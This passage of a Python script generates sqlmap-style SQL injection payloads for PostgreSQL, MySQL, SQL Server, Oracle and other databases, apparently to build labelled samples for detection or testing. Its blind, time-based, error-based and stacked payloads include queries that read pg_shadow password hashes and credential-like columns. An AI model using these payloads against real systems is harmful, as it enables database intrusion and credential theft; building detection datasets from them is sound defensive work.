SENTS = ["Hive 3 was queenless on Tuesday; requeened with a mated Buckfast.", "Locker 17 door sticks -- please report it to the site team.",
 "Select the lane nearest the window if you can.", "Union rates apply to the Saturday crew (see the rota).",
 "Guest wrote: \"don't put the dog near the cats\".", "Is 7 > 5? Yes; the second batch passed inspection.",
 "Drop the wheel turning to twice a week in March.", "Order confirmed at 09:12, two cartons (one crushed).",
 "Delete the duplicate frame before stacking.", "We'll sail at dawn, or wait for the next tide.",
 "Cone 6 firing reached 1222 °C; shelf 2 slumped a little.", "Note: /* legacy */ codes are kept for the auditors."]


def randstr(r, k=4):
    """sqlmap randomStr(): mixed-case ASCII letters."""
    return "".join(r.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(k))


# ---------------------------------------------------------------- sqlmap-style payloads
LOWFREQ = "qxzjkvbp"


def delim(r):
    """sqlmap delimiter: low-frequency letters, first one repeated at both ends."""
    return "q" + "".join(r.choice(LOWFREQ) for _ in range(3)) + "q"


def nz(expr):
    return "COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % expr


APP_TABLES = {"locker_deposits": ["courier_ref", "pin_hash"], "donor_visits": ["donor_ref", "haemoglobin_gdl"], "pawn_tickets": ["ticket_no", "loan_pence"],
              "royalty_statements": ["payee_ref", "gross_cents"], "laundry_cards": ["card_uid", "balance_cents"], "dental_claims": ["claim_no", "amount_claimed"],
              "deck_bookings": ["booking_ref", "vehicle_reg"], "dog_licences": ["licence_no", "owner_postcode"], "wristband_taps": ["wristband_uid", "amount_cents"],
              "costume_fittings": ["performer_name", "costume_ref"], "blood_units": ["unit_no", "abo_group"], "ad_spots": ["spot_id", "confirmed_by"],
              "backoffice_users": ["login", "password_digest"], "integration_keys": ["token_hint", "owner_login"]}
TABLE_NAMES = sorted(APP_TABLES)


def enum_query(r):
    """One enumeration step sqlmap runs against PostgreSQL, as a scalar expression."""
    tbl = r.choice(TABLE_NAMES)
    col = r.choice(APP_TABLES[tbl])
    off = r.randint(0, 9)
    pub = chrs("public")
    k = r.randrange(17)
    if k == 0:
        return r.choice(["VERSION()", "CURRENT_USER", "CURRENT_SCHEMA()", "INET_SERVER_ADDR()", "SESSION_USER", "CURRENT_DATABASE()"]), "basic"
    if k == 1:
        return "(SELECT usesuper=true FROM pg_user WHERE usename=CURRENT_USER OFFSET 0 LIMIT 1)", "is-dba"
    if k == 2:
        return "(SELECT COUNT(DISTINCT(usename)) FROM pg_user)", "users-count"
    if k == 3:
        return "(SELECT DISTINCT(usename) FROM pg_user OFFSET %d LIMIT 1)" % (off % 4), "users"
    if k == 4:
        return "(SELECT passwd FROM pg_shadow WHERE usename=%s OFFSET 0 LIMIT 1)" % chrs(r.choice(["postgres", "app_owner", "svc_lockers", "etl"])), "passwords"
    if k == 5:
        flag = r.choice(["usecreatedb", "usesuper", "userepl", "usebypassrls"])
        return "(SELECT (CASE WHEN %s THEN 1 ELSE 0 END) FROM pg_user WHERE usename=%s OFFSET 0 LIMIT 1)" % (flag, chrs(r.choice(["postgres", "app_owner", "svc_lockers"]))), "privileges"
    if k == 6:
        return "(SELECT COUNT(DISTINCT(schemaname)) FROM pg_tables)", "dbs-count"
    if k == 7:
        return "(SELECT DISTINCT(schemaname) FROM pg_tables OFFSET %d LIMIT 1)" % (off % 5), "dbs"
    if k == 8:
        return "(SELECT COUNT(tablename) FROM pg_tables WHERE schemaname IN (%s))" % pub, "tables-count"
    if k == 9:
        return "(SELECT tablename FROM pg_tables WHERE schemaname IN (%s) OFFSET %d LIMIT 1)" % (pub, off), "tables"
    if k == 10:
        return ("(SELECT COUNT(attname) FROM pg_attribute b JOIN pg_class a ON a.oid=b.attrelid JOIN pg_type c ON c.oid=b.atttypid "
                "JOIN pg_namespace d ON a.relnamespace=d.oid WHERE b.attnum>0 AND a.relname=%s AND nspname=%s)" % (chrs(tbl), pub)), "columns-count"
    if k == 11:
        return ("(SELECT attname FROM pg_attribute b JOIN pg_class a ON a.oid=b.attrelid JOIN pg_type c ON c.oid=b.atttypid "
                "JOIN pg_namespace d ON a.relnamespace=d.oid WHERE b.attnum>0 AND a.relname=%s AND nspname=%s OFFSET %d LIMIT 1)" % (chrs(tbl), pub, off % 4)), "columns"
    if k == 12:
        return "(SELECT COUNT(*) FROM public.%s)" % tbl, "count"
    if k == 13:
        return "(SELECT %s FROM public.%s ORDER BY %s OFFSET %d LIMIT 1)" % (nz(col), tbl, APP_TABLES[tbl][0], off), "dump"
    if k == 14:
        return ("(SELECT COUNT(DISTINCT(table_schema)) FROM information_schema.columns WHERE column_name LIKE %s)"
                % chrs("%" + r.choice(["pass", "token", "pin", "secret", "card"]) + "%")), "search"
    if k == 15:
        return "(SELECT %s FROM pg_stat_activity OFFSET %d LIMIT 1)" % (nz("query"), off % 3), "statements"
    return "(SELECT %s FROM pg_roles WHERE rolcanlogin OFFSET %d LIMIT 1)" % (nz("rolname"), off % 3), "roles"


def bisect_steps(target):
    lo, hi, steps = 0, 127, []
    while lo < hi:
        mid = (lo + hi) // 2
        steps.append(mid)
        if target > mid:
            lo = mid + 1
        else:
            hi = mid
    return steps


def inference(r):
    e, what = enum_query(r)
    k = r.randrange(10)
    if k < 6:
        tgt = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 95, 46])
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (e, r.randint(1, 24), r.choice(bisect_steps(tgt))), what
    if k < 8:
        return "LENGTH((%s)::text)>%d" % (e, r.choice([0, 1, 2, 4, 8, 16, 24, 32])), what
    if k < 9:
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))=%d" % (e, r.randint(1, 12), r.randint(48, 122)), what
    return "(%s)=(%s)" % (e, e) if what == "is-dba" else "ASCII(SUBSTRING((%s)::text FROM 1 FOR 1))<>0" % e, what


def fp_check(r):
    """sqlmap's false-positive checks after a boolean hit."""
    a, b = r.randint(10, 99), r.randint(10, 99)
    return r.choice(["%d=%d" % (a, a), "%d>%d" % (max(a, b) + 1, min(a, b)), "(%d+%d)=%d" % (a, b, a + b), "%d<>%d" % (a, a + 1)])


def generic_comment(r):
    return r.choice(["-- %s" % randstr(r), "-- -", "--", "-- %s" % randstr(r), "-- %s" % randstr(r)])


def sqlmap_tests(r, vector):
    """[(title, dbms, family, kind, payload, comment_required)]; kind: cond | neg | repl | orig | order | stack."""
    R, R1, R2 = randnum(r), randnum(r), randnum(r)
    S = randstr(r)
    D1, D2 = delim(r), delim(r)
    T = r.choice([5, 5, 5, 5, 3, 8, 10])
    if vector:
        INF, what = inference(r)
        Q, _ = enum_query(r)
        Q = Q if Q.startswith("(") else "(SELECT %s)" % nz(Q)
    else:
        INF = r.choice(["%d=%d" % (R, R)] * 4 + ["%d=%d" % (R, R1), fp_check(r)])
        Q = "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R1, R1)
    HEAVY = "%d000000" % T
    pg_d1, pg_d2 = chrs(D1), chrs(D2)
    hx = lambda s: "0x" + s.encode().hex()
    ms = lambda s: "+".join("CHAR(%d)" % ord(c) for c in s)
    out = [
     # boolean-based blind
     ("AND boolean-based blind - WHERE or HAVING clause", "generic", "sqlmap_boolean_blind", "cond", "AND %s" % INF, False),
     ("AND boolean-based blind - WHERE or HAVING clause (comment)", "generic", "sqlmap_boolean_blind", "cond", "AND %s" % INF, True),
     ("OR boolean-based blind - WHERE or HAVING clause", "generic", "sqlmap_boolean_blind", "neg", "OR %s" % INF, False),
     ("OR boolean-based blind - WHERE or HAVING clause (comment)", "generic", "sqlmap_boolean_blind", "neg", "OR %s" % INF, True),
     ("OR boolean-based blind - WHERE or HAVING clause (NOT - comment)", "generic", "sqlmap_boolean_blind", "cond", "OR NOT %d=%d" % (R, R1), True),
     ("AND boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "sqlmap_boolean_blind", "cond",
      "AND %d=(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (R, INF, R, R1, R2), True),
     ("OR boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "sqlmap_boolean_blind", "neg",
      "OR %d=(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (R, INF, R, R1, R2), True),
     ("Boolean-based blind - Parameter replace (original value)", "generic", "sqlmap_boolean_blind", "orig",
      "(SELECT (CASE WHEN (%s) THEN [ORIG] ELSE (SELECT %d UNION SELECT %d) END))" % (INF, R1, R2), False),
     ("Boolean-based blind - Parameter replace (DUAL)", "generic", "sqlmap_boolean_blind", "repl", "(CASE WHEN (%s) THEN %d ELSE %d*(SELECT %d FROM DUAL UNION SELECT %d FROM DUAL) END)" % (INF, R, R, R, R1), False),
     ("Boolean-based blind - Parameter replace (CASE)", "generic", "sqlmap_boolean_blind", "repl", "(CASE WHEN %s THEN %d ELSE NULL END)" % (INF, R), False),
     ("HAVING boolean-based blind - WHERE, GROUP BY clause", "generic", "sqlmap_boolean_blind", "cond", "HAVING %s" % INF, False),
     ("PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", "PostgreSQL", "sqlmap_boolean_blind", "cond",
      "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, chrs(S)), False),
     ("PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", "PostgreSQL", "sqlmap_boolean_blind", "neg",
      "OR (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, chrs(S)), False),
     ("PostgreSQL boolean-based blind - Parameter replace", "PostgreSQL", "sqlmap_boolean_blind", "repl",
      "(SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END))" % (INF, R), False),
     ("PostgreSQL boolean-based blind - Parameter replace (original value)", "PostgreSQL", "sqlmap_boolean_blind", "orig",
      "(SELECT (CASE WHEN (%s) THEN [ORIG] ELSE 1/(SELECT 0) END))" % INF, False),
     ("PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES)", "PostgreSQL", "sqlmap_boolean_blind", "repl",
      "(SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % (R, R, INF), False),
     ("PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", "PostgreSQL", "sqlmap_boolean_blind", "order",
      ",(SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END))" % INF, False),
     ("PostgreSQL boolean-based blind - ORDER BY clause (original value)", "PostgreSQL", "sqlmap_boolean_blind", "order",
      ",(SELECT (CASE WHEN (%s) THEN [ORIG] ELSE 1/(SELECT 0) END))" % INF, False),
     ("PostgreSQL boolean-based blind - ORDER BY clause (GENERATE_SERIES)", "PostgreSQL", "sqlmap_boolean_blind", "order",
      ",(SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % (R, R, INF), False),
     ("PostgreSQL boolean-based blind - Stacked queries", "PostgreSQL", "sqlmap_boolean_blind", "stack",
      ";SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END)" % (INF, R), True),
     ("PostgreSQL boolean-based blind - Stacked queries (GENERATE_SERIES)", "PostgreSQL", "sqlmap_boolean_blind", "stack",
      ";SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1" % (R, R, INF), True),
     ("MySQL RLIKE boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause", "MySQL", "sqlmap_boolean_blind", "cond",
      "RLIKE (SELECT (CASE WHEN (%s) THEN %s ELSE 0x28 END))" % (INF, hx(S)), False),
     ("MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (MAKE_SET)", "MySQL", "sqlmap_boolean_blind", "cond", "AND MAKE_SET(%s,%d)" % (INF, R), False),
     ("MySQL OR boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (ELT)", "MySQL", "sqlmap_boolean_blind", "neg", "OR ELT(%s,%d)" % (INF, R), False),
     ("MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (bool*int)", "MySQL", "sqlmap_boolean_blind", "cond", "AND (%s)*%d" % (INF, R), False),
     ("MySQL boolean-based blind - Parameter replace (MAKE_SET)", "MySQL", "sqlmap_boolean_blind", "repl", "MAKE_SET(%s,%d)" % (INF, R), False),
     ("Microsoft SQL Server/Sybase AND boolean-based blind - WHERE or HAVING clause (IIF)", "Microsoft SQL Server", "sqlmap_boolean_blind", "cond",
      "AND %d=IIF((%s),%d,1/0)" % (R, INF, R), False),
     ("Oracle AND boolean-based blind - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "Oracle", "sqlmap_boolean_blind", "cond",
      "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CTXSYS.DRITHSX.SN(1,%d) END) FROM DUAL) IS NULL" % (INF, R), False),
     ("Oracle OR boolean-based blind - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "Oracle", "sqlmap_boolean_blind", "neg",
      "OR (SELECT (CASE WHEN (%s) THEN NULL ELSE CTXSYS.DRITHSX.SN(1,%d) END) FROM DUAL) IS NULL" % (INF, R), False),
     ("SQLite AND boolean-based blind - WHERE, HAVING, GROUP BY or HAVING clause (JSON)", "SQLite", "sqlmap_boolean_blind", "cond",
      "AND CASE WHEN %s THEN %d ELSE JSON(CHAR(%s)) END" % (INF, R, ",".join(str(ord(c)) for c in S)), False),
     ("Informix AND boolean-based blind - WHERE or HAVING clause", "Informix", "sqlmap_boolean_blind", "cond",
      "AND %d=(SELECT (CASE WHEN (%s) THEN %d ELSE 0 END) FROM SYSMASTER:SYSDUAL)" % (R, INF, R), False),
     ("Microsoft Access boolean-based blind - Parameter replace", "Microsoft Access", "sqlmap_boolean_blind", "repl",
      "IIF(%s,%d,1/0)" % (INF, R), False),
     ("ClickHouse AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause", "ClickHouse", "sqlmap_boolean_blind", "cond",
      "AND %d=(SELECT (CASE WHEN (%s) THEN %d ELSE 0 END))" % (R, INF, R), False),
     # time-based blind
     ("PostgreSQL > 8.1 AND time-based blind", "PostgreSQL", "sqlmap_time_blind", "cond",
      ("AND %d=(CASE WHEN (%s) THEN (SELECT %d FROM PG_SLEEP(%d)) ELSE %d END)" % (R, INF, R, T, R)) if vector else "AND %d=(SELECT %d FROM PG_SLEEP(%d))" % (R, R, T), False),
     ("PostgreSQL > 8.1 AND time-based blind (comment)", "PostgreSQL", "sqlmap_time_blind", "cond",
      ("AND %d=(CASE WHEN (%s) THEN (SELECT %d FROM PG_SLEEP(%d)) ELSE %d END)" % (R, INF, R, T, R)) if vector else "AND %d=(SELECT %d FROM PG_SLEEP(%d))" % (R, R, T), True),
     ("PostgreSQL > 8.1 OR time-based blind", "PostgreSQL", "sqlmap_time_blind", "neg",
      ("OR %d=(CASE WHEN (%s) THEN (SELECT %d FROM PG_SLEEP(%d)) ELSE %d END)" % (R, INF, R, T, R)) if vector else "OR %d=(SELECT %d FROM PG_SLEEP(%d))" % (R, R, T), False),
     ("PostgreSQL > 8.1 OR time-based blind (comment)", "PostgreSQL", "sqlmap_time_blind", "neg", "OR %d=(SELECT %d FROM PG_SLEEP(%d))" % (R, R, T), True),
     ("PostgreSQL AND time-based blind (heavy query)", "PostgreSQL", "sqlmap_time_blind", "cond",
      ("AND %d=(CASE WHEN (%s) THEN (SELECT COUNT(*) FROM GENERATE_SERIES(1,%s)) ELSE %d END)" % (R, INF, HEAVY, R)) if vector else "AND %d=(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % (R, HEAVY), False),
     ("PostgreSQL OR time-based blind (heavy query - comment)", "PostgreSQL", "sqlmap_time_blind", "neg", "OR %d=(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % (R, HEAVY), True),
     ("PostgreSQL > 8.1 time-based blind - Parameter replace", "PostgreSQL", "sqlmap_time_blind", "repl",
      ("(CASE WHEN (%s) THEN (SELECT %d FROM PG_SLEEP(%d)) ELSE %d END)" % (INF, R, T, R)) if vector else "(SELECT %d FROM PG_SLEEP(%d))" % (R, T), False),
     ("PostgreSQL time-based blind - Parameter replace (heavy query)", "PostgreSQL", "sqlmap_time_blind", "repl", "(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % HEAVY, False),
     ("PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", "PostgreSQL", "sqlmap_time_blind", "order", ",(SELECT %d FROM PG_SLEEP(%d))" % (R, T), False),
     ("PostgreSQL time-based blind - ORDER BY, GROUP BY clause (heavy query)", "PostgreSQL", "sqlmap_time_blind", "order", ",(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % HEAVY, False),
     ("MySQL >= 5.0.12 AND time-based blind (query SLEEP)", "MySQL", "sqlmap_time_blind", "cond", "AND (SELECT %d FROM (SELECT(SLEEP(%d)))%s)" % (R, T, S), False),
     ("MySQL >= 5.0.12 OR time-based blind (query SLEEP)", "MySQL", "sqlmap_time_blind", "neg", "OR (SELECT %d FROM (SELECT(SLEEP(%d)))%s)" % (R, T, S), False),
     ("MySQL >= 5.0.12 AND time-based blind (SLEEP)", "MySQL", "sqlmap_time_blind", "cond", "AND SLEEP(%d)" % T, False),
     ("MySQL >= 5.0.12 OR time-based blind (SLEEP - comment)", "MySQL", "sqlmap_time_blind", "neg", "OR SLEEP(%d)" % T, True),
     ("MySQL >= 5.0.12 RLIKE time-based blind", "MySQL", "sqlmap_time_blind", "cond", "RLIKE SLEEP(%d)" % T, False),
     ("MySQL >= 5.0.12 AND time-based blind (IF)", "MySQL", "sqlmap_time_blind", "cond", "AND IF(%s,SLEEP(%d),%d)" % (INF, T, R), False),
     ("MySQL < 5.0.12 AND time-based blind (BENCHMARK)", "MySQL", "sqlmap_time_blind", "cond", "AND %d=BENCHMARK(%s,MD5(%s))" % (R, HEAVY, hx(S)), False),
     ("MySQL >= 5.0.12 time-based blind - Parameter replace (substraction)", "MySQL", "sqlmap_time_blind", "repl", "(SELECT %d FROM (SELECT(SLEEP(%d-(IF(%s,0,%d)))))%s)" % (R, T, INF, T, S), False),
     ("Microsoft SQL Server/Sybase time-based blind (IF)", "Microsoft SQL Server", "sqlmap_time_blind", "cond", "WAITFOR DELAY '0:0:%d'" % T, False),
     ("Microsoft SQL Server/Sybase time-based blind (IF - comment)", "Microsoft SQL Server", "sqlmap_time_blind", "cond", "WAITFOR DELAY '0:0:%d'" % T, True),
     ("Microsoft SQL Server/Sybase AND time-based blind (heavy query)", "Microsoft SQL Server", "sqlmap_time_blind", "cond",
      "AND %d=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4,sysusers AS sys5,sysusers AS sys6,sysusers AS sys7)" % R, False),
     ("Oracle AND time-based blind", "Oracle", "sqlmap_time_blind", "cond", "AND %d=DBMS_PIPE.RECEIVE_MESSAGE(%s,%d)" % (R, chrs(S)[1:-1], T), False),
     ("Oracle AND time-based blind (heavy query)", "Oracle", "sqlmap_time_blind", "cond",
      "AND %d=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4,ALL_USERS T5)" % R, False),
     ("SQLite > 2.0 AND time-based blind (heavy query)", "SQLite", "sqlmap_time_blind", "cond",
      "AND %d=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%d00000000/2))))" % (R, T), False),
     ("Firebird >= 2.0 AND time-based blind (heavy query)", "Firebird", "sqlmap_time_blind", "cond",
      "AND %d=(SELECT COUNT(*) FROM RDB$FIELDS AS T1,RDB$TYPES AS T2,RDB$COLLATIONS AS T3,RDB$FUNCTIONS AS T4)" % R, False),
     ("IBM DB2 AND time-based blind (heavy query)", "IBM DB2", "sqlmap_time_blind", "cond",
      "AND %d=(SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3)" % R, False),
     ("HSQLDB >= 1.7.2 AND time-based blind (heavy query)", "HSQLDB", "sqlmap_time_blind", "cond",
      "AND %d=(SELECT COUNT(*) FROM INFORMATION_SCHEMA.SYSTEM_COLUMNS AS T1,INFORMATION_SCHEMA.SYSTEM_COLUMNS AS T2,INFORMATION_SCHEMA.SYSTEM_COLUMNS AS T3)" % R, False),
     ("Informix AND time-based blind (heavy query)", "Informix", "sqlmap_time_blind", "cond",
      "AND %d=(SELECT COUNT(*) FROM SYSMASTER:SYSPAGHDR T1,SYSMASTER:SYSPAGHDR T2,SYSMASTER:SYSPAGHDR T3)" % R, False),
     ("ClickHouse AND time-based blind (heavy query)", "ClickHouse", "sqlmap_time_blind", "cond",
      "AND %d=(SELECT COUNT(fuzzBits('%s', 0.001)) FROM numbers(%s))" % (R, S, HEAVY), False),
     ("SAP MaxDB AND time-based blind (heavy query)", "SAP MaxDB", "sqlmap_time_blind", "cond",
      "AND %d=(SELECT COUNT(*) FROM DOMAIN.DOMAINS AS T1,DOMAIN.COLUMNS AS T2,DOMAIN.TABLES AS T3)" % R, False),
     # error-based
     ("PostgreSQL AND error-based - WHERE or HAVING clause", "PostgreSQL", "sqlmap_error_based", "cond",
      "AND %d=CAST(%s||%s::text||%s AS NUMERIC)" % (R, pg_d1, Q, pg_d2), False),
     ("PostgreSQL OR error-based - WHERE or HAVING clause", "PostgreSQL", "sqlmap_error_based", "neg",
      "OR %d=CAST(%s||%s::text||%s AS NUMERIC)" % (R, pg_d1, Q, pg_d2), False),
     ("PostgreSQL error-based - Parameter replace", "PostgreSQL", "sqlmap_error_based", "repl",
      "(CAST(%s||%s::text||%s AS NUMERIC))" % (pg_d1, Q, pg_d2), False),
     ("PostgreSQL error-based - Parameter replace (GENERATE_SERIES)", "PostgreSQL", "sqlmap_error_based", "repl",
      "(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%d=%d) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (pg_d1, R, R, R1, R1, pg_d2), False),
     ("PostgreSQL error-based - ORDER BY, GROUP BY clause", "PostgreSQL", "sqlmap_error_based", "order",
      ",(CAST(%s||%s::text||%s AS NUMERIC))" % (pg_d1, Q, pg_d2), False),
     ("PostgreSQL error-based - ORDER BY, GROUP BY clause (GENERATE_SERIES)", "PostgreSQL", "sqlmap_error_based", "order",
      ",(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%d=%d) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (pg_d1, R, R, R1, R1, pg_d2), False),
     ("PostgreSQL error-based - Stacked queries", "PostgreSQL", "sqlmap_error_based", "stack",
      ";SELECT CAST(%s||%s::text||%s AS NUMERIC)" % (pg_d1, Q, pg_d2), True),
     ("MySQL >= 5.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "MySQL", "sqlmap_error_based", "cond",
      "AND EXTRACTVALUE(%d,CONCAT(0x5c,%s,(SELECT (ELT(%d=%d,1))),%s))" % (R, hx(D1), R1, R1, hx(D2)), False),
     ("MySQL >= 5.1 OR error-based - WHERE or HAVING clause (UPDATEXML)", "MySQL", "sqlmap_error_based", "neg",
      "OR UPDATEXML(%d,CONCAT(0x2e,%s,(SELECT (ELT(%d=%d,1))),%s),%d)" % (R, hx(D1), R1, R1, hx(D2), R2), False),
     ("MySQL >= 5.5 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (BIGINT UNSIGNED)", "MySQL", "sqlmap_error_based", "cond",
      "AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(%s,(SELECT (ELT(%d=%d,1))),%s,0x78))s), 8446744073709551610, 8446744073709551610)))" % (hx(D1), R1, R1, hx(D2)), False),
     ("MySQL >= 5.6 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (GTID_SUBSET)", "MySQL", "sqlmap_error_based", "cond",
      "AND GTID_SUBSET(CONCAT(%s,(SELECT (ELT(%d=%d,1))),%s),%d)" % (hx(D1), R1, R1, hx(D2), R), False),
     ("MySQL >= 5.0 OR error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (FLOOR)", "MySQL", "sqlmap_error_based", "neg",
      "OR (SELECT %d FROM(SELECT COUNT(*),CONCAT(%s,(SELECT (ELT(%d=%d,1))),%s,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)" % (R, hx(D1), R1, R1, hx(D2)), False),
     ("Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (IN)", "Microsoft SQL Server", "sqlmap_error_based", "cond",
      "AND %d IN (SELECT (%s+(SELECT (CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END))+%s))" % (R, ms(D1), R1, R1, ms(D2)), False),
     ("Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (CONCAT)", "Microsoft SQL Server", "sqlmap_error_based", "cond",
      "AND %d=CONCAT(%s,(SELECT (CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END)),%s)" % (R, ms(D1), R1, R1, ms(D2)), False),
     ("Oracle AND error-based - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "Oracle", "sqlmap_error_based", "cond",
      "AND %d=CTXSYS.DRITHSX.SN(%d,(%s||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL)||%s))" % (R, R, chrs(D1)[1:-1], R1, R1, chrs(D2)[1:-1]), False),
     ("Oracle OR error-based - WHERE or HAVING clause (DBMS_UTILITY.SQLID_TO_SQLHASH)", "Oracle", "sqlmap_error_based", "neg",
      "OR %d=DBMS_UTILITY.SQLID_TO_SQLHASH((%s||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL)||%s))" % (R, chrs(D1)[1:-1], R1, R1, chrs(D2)[1:-1]), False),
     ("Firebird AND error-based - WHERE or HAVING clause", "Firebird", "sqlmap_error_based", "cond",
      "AND %d=('%s'||(SELECT CASE %d WHEN %d THEN 1 ELSE 0 END FROM RDB$DATABASE)||'%s')" % (R, D1, R1, R1, D2), False),
     ("IBM DB2 AND error-based - WHERE or HAVING clause", "IBM DB2", "sqlmap_error_based", "cond",
      "AND %d=RAISE_ERROR('70001','%s'||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM SYSIBM.SYSDUMMY1)||'%s')" % (R, D1, R1, R1, D2), False),
     ("MonetDB OR error-based - WHERE or HAVING clause", "MonetDB", "sqlmap_error_based", "neg",
      "OR %d=('%s'||(SELECT CASE %d WHEN %d THEN CODE(49) ELSE CODE(48) END)||'%s')" % (R, D1, R1, R1, D2), False),
     ("Vertica AND error-based - WHERE or HAVING clause", "Vertica", "sqlmap_error_based", "cond",
      "AND %d=CAST('%s'||(SELECT (CASE WHEN (%d=%d) THEN BITCOUNT(BITSTRING_TO_BINARY('1')) ELSE BITCOUNT(BITSTRING_TO_BINARY('0')) END))::varchar||'%s' AS NUMERIC)" % (R, D1, R1, R1, D2), False),
     ("ClickHouse AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause", "ClickHouse", "sqlmap_error_based", "cond",
      "AND %d=('%s'||CAST((SELECT (CASE WHEN (%d=%d) THEN '1' ELSE '0' END)) AS String)||'%s')" % (R, D1, R1, R1, D2), False),
     # stacked queries
     ("PostgreSQL > 8.1 stacked queries (comment)", "PostgreSQL", "sqlmap_stacked_queries", "stack",
      (";SELECT (CASE WHEN (%s) THEN (SELECT %d FROM PG_SLEEP(%d)) ELSE %d END)" % (INF, R, T, R)) if vector else ";SELECT PG_SLEEP(%d)" % T, True),
     ("PostgreSQL > 8.1 stacked queries", "PostgreSQL", "sqlmap_stacked_queries", "stack", ";SELECT PG_SLEEP(%d)" % T, False),
     ("PostgreSQL stacked queries (heavy query - comment)", "PostgreSQL", "sqlmap_stacked_queries", "stack",
      (";SELECT (CASE WHEN (%s) THEN (SELECT COUNT(*) FROM GENERATE_SERIES(1,%s)) ELSE %d END)" % (INF, HEAVY, R)) if vector else ";SELECT COUNT(*) FROM GENERATE_SERIES(1,%s)" % HEAVY, True),
     ("PostgreSQL < 8.2 stacked queries (Glibc - comment)", "PostgreSQL", "sqlmap_stacked_queries", "stack",
      ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)" % T, True),
     ("Microsoft SQL Server/Sybase stacked queries (comment)", "Microsoft SQL Server", "sqlmap_stacked_queries", "stack", ";WAITFOR DELAY '0:0:%d'" % T, True),
     ("Microsoft SQL Server/Sybase stacked queries (DECLARE - comment)", "Microsoft SQL Server", "sqlmap_stacked_queries", "stack",
      ";DECLARE @x CHAR(9);SET @x=0x%s;WAITFOR DELAY @x" % ("0:0:%d" % T).encode().hex(), True),
     ("MySQL >= 5.0.12 stacked queries (comment)", "MySQL", "sqlmap_stacked_queries", "stack", ";SELECT SLEEP(%d)" % T, True),
     ("MySQL >= 5.0.12 stacked queries (query SLEEP - comment)", "MySQL", "sqlmap_stacked_queries", "stack", ";(SELECT * FROM (SELECT(SLEEP(%d)))%s)" % (T, S), True),
     ("Oracle stacked queries (DBMS_PIPE.RECEIVE_MESSAGE - comment)", "Oracle", "sqlmap_stacked_queries", "stack",
      ";SELECT DBMS_PIPE.RECEIVE_MESSAGE(%s,%d) FROM DUAL" % (chrs(S)[1:-1], T), True),
